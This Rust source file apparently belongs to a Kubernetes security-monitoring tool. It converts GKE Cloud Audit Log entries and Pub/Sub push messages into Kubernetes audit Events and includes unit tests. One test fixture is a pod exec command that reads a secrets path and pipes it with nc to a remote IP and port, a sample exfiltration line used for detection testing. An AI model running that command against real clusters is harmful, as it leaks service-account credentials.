//! GKE: a Cloud Audit Logs `LogEntry` (its `protoPayload` an `AuditLog`) mapped onto the audit
//! Event the apiserver would have logged, alone or inside a Pub/Sub push message.

use super::{str_of, Record};
use crate::audit::Event;
use serde_json::{Map, Value};

/// A Pub/Sub push message's base64 `data`.
pub(super) fn pubsub_data(object: &Map<String, Value>) -> Option<&str> {
    object.get("message")?.get("data")?.as_str()
}

pub(super) fn gke_message(object: Map<String, Value>) -> Vec<Result<Record, String>> {
    let entry = match pubsub_data(&object) {
        Some(data) => {
            use base64::Engine as _;
            let decoded = base64::engine::general_purpose::STANDARD
                .decode(data.trim())
                .map_err(|e| format!("message.data is not base64: {e}"))
                .and_then(|bytes| {
                    serde_json::from_slice::<Map<String, Value>>(&bytes)
                        .map_err(|e| format!("message.data is not a JSON LogEntry: {e}"))
                });
            match decoded {
                Ok(entry) => entry,
                Err(e) => return vec![Err(e)],
            }
        }
        None => object,
    };
    vec![gke(&entry)]
}

/// Maps a Cloud Audit Logs `LogEntry` for `k8s.io` onto the audit Event fields rules read.
///
/// - `methodName` `io.k8s.<group>.<version>.<resource>[.<subresource>].<verb>` gives the verb,
///   resource and subresource; `resourceName` `<group>/<version>/[namespaces/<ns>/]<resource>/<name>[/<sub>]`
///   gives the API group (`core` is the empty group), namespace and name.
/// - `authenticationInfo.principalEmail` → `user.username` (GKE logs no groups);
///   `requestMetadata.callerIp` / `callerSuppliedUserAgent` → `sourceIPs` / `userAgent`.
/// - `request` / `response` → `requestObject` / `responseObject` (without the `@type` GKE adds);
///   `level` is the most those carry (Metadata, Request, RequestResponse).
/// - `status.code` (a `google.rpc.Code`) → `responseStatus.code` as HTTP (0 → 200, or 201 for a
///   create; 7 → 403; 16 → 401; …).
/// - `operation.id` → `auditID` (else `insertId`); `operation.first` without `last` is the
///   `ResponseStarted` stage of a long-running request (a watch), anything else
///   `ResponseComplete`. An exec, attach or port-forward entry is its session's start
///   (`ResponseStarted`, where the apiserver logs it and the rules look) unless it is marked
///   `last` and not `first`: GKE logs them with either flag, both or none.
/// - An exec's or attach's options (`request.command`, `container`, `stdin`, …; a port-forward's
///   `ports`) → the query of `requestURI`, encoded as kubectl sends it, so that rules read the
///   command where the apiserver logs it.
/// - A non-resource path logged without its leading `/` (`readyz`) gets it back.
/// - `timestamp` → both timestamps; `labels` → `annotations`.
pub fn gke(entry: &Map<String, Value>) -> Result<Record, String> {
    let payload = entry
        .get("protoPayload")
        .and_then(Value::as_object)
        .ok_or("a GKE LogEntry needs a protoPayload object")?;
    if let Some(service) = str_of(payload, "serviceName") {
        if service != "k8s.io" {
            return Err(format!("protoPayload.serviceName is {service}, not k8s.io"));
        }
    }
    let method = str_of(payload, "methodName").ok_or("protoPayload.methodName is missing")?;
    let resource_name = str_of(payload, "resourceName").unwrap_or_default();
    let method_parts: Vec<&str> = method.split('.').collect();
    let verb = *method_parts.last().unwrap_or(&"");
    if verb.is_empty() {
        return Err(format!("protoPayload.methodName '{method}' names no verb"));
    }
    let operation = entry.get("operation").and_then(Value::as_object);
    let audit_id = operation
        .and_then(|o| str_of(o, "id"))
        .or_else(|| str_of(entry, "insertId"))
        .ok_or("neither operation.id nor insertId is present")?;
    let first = operation.and_then(|o| o.get("first")).and_then(Value::as_bool) == Some(true);
    let last = operation.and_then(|o| o.get("last")).and_then(Value::as_bool) == Some(true);
    let version_at = method_parts.iter().position(|p| is_version(p));
    // <group>.<version>.<resource>.<subresource>.<verb>
    let subresource = version_at
        .filter(|v| v + 3 < method_parts.len())
        .map(|v| method_parts[v + 2]);
    let session = subresource.is_some_and(|s| CONNECT.contains(&s));
    // A session's entry is its start unless marked as only its end.
    let stage = if (session && (first || !last)) || (first && !last) {
        "ResponseStarted"
    } else {
        "ResponseComplete"
    };
    let time = str_of(entry, "timestamp").or_else(|| str_of(entry, "receiveTimestamp"));

    let mut event = Map::new();
    event.insert("kind".into(), "Event".into());
    event.insert("apiVersion".into(), "audit.k8s.io/v1".into());
    let request = payload.get("request").map(without_type);
    let response = payload.get("response").map(without_type);
    let level = match (&request, &response) {
        (_, Some(_)) => "RequestResponse",
        (Some(_), None) => "Request",
        _ => "Metadata",
    };
    event.insert("level".into(), level.into());
    event.insert("auditID".into(), audit_id.into());
    event.insert("stage".into(), stage.into());
    event.insert("verb".into(), verb.into());

    // A version segment (`v1`, `v1beta1`) splits the method into group and resource parts;
    // a method without one is a non-resource request (`resourceName` is then its path).
    match version_at {
        Some(v) if v + 2 < method_parts.len() => {
            let resource = method_parts[v + 1];
            let object_ref = gke_object_ref(resource_name, method_parts[v], resource, subresource);
            let mut uri = request_uri(&object_ref);
            if session {
                uri.push_str(&session_query(request.as_ref()));
            }
            event.insert("requestURI".into(), uri.into());
            event.insert("objectRef".into(), Value::Object(object_ref));
        }
        _ => {
            let path = if resource_name.starts_with('/') {
                resource_name.to_string()
            } else {
                format!("/{resource_name}")
            };
            event.insert("requestURI".into(), path.into());
        }
    }

    let mut user = Map::new();
    if let Some(auth) = payload.get("authenticationInfo").and_then(Value::as_object) {
        if let Some(email) = str_of(auth, "principalEmail") {
            user.insert("username".into(), email.into());
        }
    }
    event.insert("user".into(), Value::Object(user));
    if let Some(meta) = payload.get("requestMetadata").and_then(Value::as_object) {
        if let Some(ip) = str_of(meta, "callerIp") {
            event.insert("sourceIPs".into(), Value::Array(vec![ip.into()]));
        }
        if let Some(agent) = str_of(meta, "callerSuppliedUserAgent") {
            event.insert("userAgent".into(), agent.into());
        }
    }
    let status = payload.get("status").and_then(Value::as_object);
    let rpc_code = status.and_then(|s| s.get("code")).and_then(Value::as_i64).unwrap_or(0);
    let mut response_status = Map::new();
    response_status.insert("code".into(), http_code(rpc_code, verb).into());
    if let Some(message) = status.and_then(|s| str_of(s, "message")).filter(|m| !m.is_empty()) {
        response_status.insert("message".into(), message.into());
    }
    event.insert("responseStatus".into(), Value::Object(response_status));
    if let Some(request) = request {
        event.insert("requestObject".into(), request);
    }
    if let Some(response) = response {
        event.insert("responseObject".into(), response);
    }
    if let Some(time) = time {
        event.insert("requestReceivedTimestamp".into(), time.into());
        event.insert("stageTimestamp".into(), time.into());
    }
    if let Some(labels) = entry.get("labels").filter(|l| l.is_object()) {
        event.insert("annotations".into(), labels.clone());
    }
    let cluster = entry
        .get("resource")
        .and_then(|r| r.get("labels"))
        .and_then(|l| l.get("cluster_name"))
        .and_then(Value::as_str)
        .map(str::to_string);
    Ok(Record {
        event: Event::from_json(Value::Object(event).to_string())?,
        cluster,
    })
}

fn is_version(part: &str) -> bool {
    let Some(rest) = part.strip_prefix('v') else {
        return false;
    };
    let digits = rest.bytes().take_while(u8::is_ascii_digit).count();
    if digits == 0 {
        return false;
    }
    let tail = &rest[digits..];
    tail.is_empty()
        || ["alpha", "beta"].iter().any(|s| {
            tail.strip_prefix(s)
                .is_some_and(|n| !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit()))
        })
}

/// `objectRef` from `resourceName`, with the resource and subresource the method names.
fn gke_object_ref(resource_name: &str, version: &str, resource: &str, subresource: Option<&str>) -> Map<String, Value> {
    let parts: Vec<&str> = resource_name.split('/').filter(|p| !p.is_empty()).collect();
    let mut object_ref = Map::new();
    object_ref.insert("resource".into(), resource.into());
    let group = parts.first().copied().unwrap_or("core");
    object_ref.insert("apiGroup".into(), if group == "core" { "" } else { group }.into());
    object_ref.insert("apiVersion".into(), version.into());
    let mut rest = parts.get(2..).unwrap_or_default();
    if resource != "namespaces" && rest.len() >= 2 && rest[0] == "namespaces" {
        object_ref.insert("namespace".into(), rest[1].into());
        rest = &rest[2..];
    }
    // rest: <resource>[/<name>[/<subresource>]]
    if let Some(name) = rest.get(1) {
        object_ref.insert("name".into(), (*name).into());
        if resource == "namespaces" {
            object_ref.insert("namespace".into(), (*name).into());
        }
    }
    if let Some(sub) = subresource {
        object_ref.insert("subresource".into(), sub.into());
    }
    object_ref
}

/// The request path an objectRef stands for (without query).
fn request_uri(object_ref: &Map<String, Value>) -> String {
    let get = |k: &str| object_ref.get(k).and_then(Value::as_str).unwrap_or_default();
    let mut uri = match get("apiGroup") {
        "" => format!("/api/{}", get("apiVersion")),
        group => format!("/apis/{group}/{}", get("apiVersion")),
    };
    let resource = get("resource");
    if resource != "namespaces" && !get("namespace").is_empty() {
        uri.push_str(&format!("/namespaces/{}", get("namespace")));
    }
    uri.push('/');
    uri.push_str(resource);
    for key in ["name", "subresource"] {
        if !get(key).is_empty() {
            uri.push('/');
            uri.push_str(get(key));
        }
    }
    uri
}

/// The subresources whose request opens a session (a connect request).
const CONNECT: [&str; 3] = ["exec", "attach", "portforward"];

/// What Go's `url.QueryEscape` leaves as it is: letters, digits and `-_.~` (space becomes `+`).
const QUERY_COMPONENT: &percent_encoding::AsciiSet = &percent_encoding::NON_ALPHANUMERIC
    .remove(b'-')
    .remove(b'_')
    .remove(b'.')
    .remove(b'~');

/// A session's options (`PodExecOptions`, `PodAttachOptions`, `PodPortForwardOptions`) as the
/// query kubectl sends: keys sorted, a list repeated per item, booleans only when true.
fn session_query(options: Option<&Value>) -> String {
    let Some(options) = options.and_then(Value::as_object) else {
        return String::new();
    };
    let mut pairs: Vec<(&str, String)> = Vec::new();
    for (key, value) in options {
        let values: Vec<String> = match value {
            Value::String(s) => vec![s.clone()],
            Value::Bool(true) => vec!["true".into()],
            Value::Number(n) => vec![n.to_string()],
            Value::Array(items) => items
                .iter()
                .filter_map(|i| match i {
                    Value::String(s) => Some(s.clone()),
                    Value::Number(n) => Some(n.to_string()),
                    _ => None,
                })
                .collect(),
            _ => vec![],
        };
        pairs.extend(values.into_iter().map(|v| (key.as_str(), v)));
    }
    pairs.sort_by(|a, b| a.0.cmp(b.0));
    let escape = |s: &str| {
        percent_encoding::utf8_percent_encode(s, QUERY_COMPONENT)
            .to_string()
            .replace("%20", "+")
    };
    let query: Vec<String> = pairs
        .iter()
        .map(|(k, v)| format!("{}={}", escape(k), escape(v)))
        .collect();
    if query.is_empty() {
        String::new()
    } else {
        format!("?{}", query.join("&"))
    }
}

fn without_type(value: &Value) -> Value {
    let mut value = value.clone();
    if let Some(object) = value.as_object_mut() {
        object.remove("@type");
    }
    value
}

/// `google.rpc.Code` → the HTTP status the apiserver answered.
fn http_code(rpc: i64, verb: &str) -> i64 {
    match rpc {
        0 if verb == "create" => 201,
        0 => 200,
        1 => 499,
        3 | 9 | 11 => 400,
        4 => 504,
        5 => 404,
        6 | 10 => 409,
        7 => 403,
        8 => 429,
        12 => 501,
        14 => 503,
        16 => 401,
        _ => 500,
    }
}

#[cfg(test)]
mod tests {
    use super::super::tests::ok;
    use super::super::{unwrap, Format};
    use super::*;
    use serde_json::json;

    fn gke_entry() -> Value {
        json!({
            "protoPayload": {
                "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
                "authenticationInfo": {"principalEmail": "dev@example.com"},
                "methodName": "io.k8s.core.v1.pods.exec.create",
                "resourceName": "core/v1/namespaces/shop/pods/web-1/exec",
                "requestMetadata": {"callerIp": "10.0.0.7", "callerSuppliedUserAgent": "kubectl/v1.30"},
                "serviceName": "k8s.io",
                "status": {"code": 0}
            },
            "insertId": "ins-1",
            "resource": {"type": "k8s_cluster", "labels": {"cluster_name": "prod-gke", "location": "europe-west1"}},
            "timestamp": "2026-11-26T10:00:00.123456Z",
            "labels": {"authorization.k8s.io/decision": "allow"},
            "operation": {"id": "op-1", "producer": "k8s.io", "first": true},
            "logName": "projects/p/logs/cloudaudit.googleapis.com%2Factivity"
        })
    }

    #[test]
    fn gke_maps_onto_the_event_fields() {
        let out = unwrap(Format::Auto, gke_entry().to_string());
        let record = out[0].as_ref().unwrap();
        assert_eq!(record.cluster.as_deref(), Some("prod-gke"));
        let event: Value = serde_json::from_str(record.event.as_str()).unwrap();
        assert_eq!(event["auditID"], "op-1");
        assert_eq!(event["stage"], "ResponseStarted");
        assert_eq!(event["verb"], "create");
        assert_eq!(
            event["objectRef"],
            json!({"resource": "pods", "subresource": "exec", "namespace": "shop", "name": "web-1", "apiGroup": "", "apiVersion": "v1"})
        );
        assert_eq!(event["requestURI"], "/api/v1/namespaces/shop/pods/web-1/exec");
        assert_eq!(event["user"]["username"], "dev@example.com");
        assert_eq!(event["sourceIPs"], json!(["10.0.0.7"]));
        assert_eq!(event["userAgent"], "kubectl/v1.30");
        assert_eq!(event["responseStatus"]["code"], 201);
        assert_eq!(event["stageTimestamp"], "2026-11-26T10:00:00.123456Z");
        assert_eq!(event["annotations"]["authorization.k8s.io/decision"], "allow");
        assert_eq!(event["level"], "Metadata");
    }

    #[test]
    fn gke_groups_cluster_scoped_bodies_and_denials() {
        let mut entry = gke_entry();
        entry["protoPayload"]["methodName"] = "io.k8s.authorization.rbac.v1.clusterrolebindings.create".into();
        entry["protoPayload"]["resourceName"] = "rbac.authorization.k8s.io/v1/clusterrolebindings/admin-x".into();
        entry["protoPayload"]["request"] =
            json!({"@type": "rbac.authorization.k8s.io/v1.ClusterRoleBinding", "roleRef": {"name": "cluster-admin"}});
        entry["protoPayload"]["status"] = json!({"code": 7, "message": "forbidden"});
        entry["operation"] = json!({"id": "op-2", "first": true, "last": true});
        let out = unwrap(Format::Gke, entry.to_string());
        let event: Value = serde_json::from_str(out[0].as_ref().unwrap().event.as_str()).unwrap();
        assert_eq!(event["stage"], "ResponseComplete");
        assert_eq!(event["objectRef"]["apiGroup"], "rbac.authorization.k8s.io");
        assert_eq!(event["objectRef"]["resource"], "clusterrolebindings");
        assert_eq!(event["objectRef"]["name"], "admin-x");
        assert!(event["objectRef"].get("namespace").is_none());
        assert_eq!(event["requestObject"], json!({"roleRef": {"name": "cluster-admin"}}));
        assert_eq!(event["level"], "Request");
        assert_eq!(event["responseStatus"], json!({"code": 403, "message": "forbidden"}));
        assert_eq!(
            event["requestURI"],
            "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/admin-x"
        );
    }

    #[test]
    fn gke_inside_a_pubsub_push_message() {
        use base64::Engine as _;
        let data = base64::engine::general_purpose::STANDARD.encode(gke_entry().to_string());
        let push = json!({"message": {"data": data, "messageId": "9"}, "subscription": "projects/p/subscriptions/s"});
        assert_eq!(
            ok(unwrap(Format::Auto, push.to_string())),
            [("op-1".into(), Some("prod-gke".into()))]
        );
        let bad = json!({"message": {"data": "%%%"}});
        assert!(unwrap(Format::Auto, bad.to_string())[0]
            .as_ref()
            .unwrap_err()
            .contains("base64"));
    }

    #[test]
    fn gke_sessions_start_whatever_their_operation_flags() {
        let stage = |operation: Value| {
            let mut entry = gke_entry();
            entry["operation"] = operation;
            let out = unwrap(Format::Gke, entry.to_string());
            let event: Value = serde_json::from_str(out[0].as_ref().unwrap().event.as_str()).unwrap();
            event["stage"].as_str().unwrap().to_string()
        };
        for operation in [
            json!({"id": "o", "first": true}),
            json!({"id": "o"}),
            json!({"id": "o", "first": true, "last": true}),
            Value::Null,
        ] {
            assert_eq!(stage(operation.clone()), "ResponseStarted", "{operation}");
        }
        assert_eq!(stage(json!({"id": "o", "last": true})), "ResponseComplete");
    }

    #[test]
    fn gke_exec_options_become_the_query_kubectl_sends() {
        let mut entry = gke_entry();
        entry["protoPayload"]["request"] = json!({
            "@type": "k8s.io/v1.PodExecOptions", "stdin": true, "tty": true, "stdout": true, "stderr": false,
            "container": "web", "command": ["/bin/sh", "-c", "cat /var/run/secrets/x | nc 10.0.0.1 4444"]
        });
        let out = unwrap(Format::Gke, entry.to_string());
        let event: Value = serde_json::from_str(out[0].as_ref().unwrap().event.as_str()).unwrap();
        assert_eq!(
            event["requestURI"],
            "/api/v1/namespaces/shop/pods/web-1/exec?command=%2Fbin%2Fsh&command=-c&command=cat+%2Fvar%2Frun%2Fsecrets%2Fx+%7C+nc+10.0.0.1+4444&container=web&stdin=true&stdout=true&tty=true"
        );
    }

    #[test]
    fn gke_non_resource_paths_start_with_a_slash() {
        let mut entry = gke_entry();
        entry["protoPayload"]["methodName"] = "io.k8s.get".into();
        entry["protoPayload"]["resourceName"] = "readyz".into();
        let out = unwrap(Format::Gke, entry.to_string());
        let event: Value = serde_json::from_str(out[0].as_ref().unwrap().event.as_str()).unwrap();
        assert_eq!(event["requestURI"], "/readyz");
    }

    #[test]
    fn versions_are_told_from_resources() {
        assert!(is_version("v1") && is_version("v1beta1") && is_version("v2alpha3"));
        assert!(!is_version("v") && !is_version("vx") && !is_version("v1beta") && !is_version("pods"));
    }
}
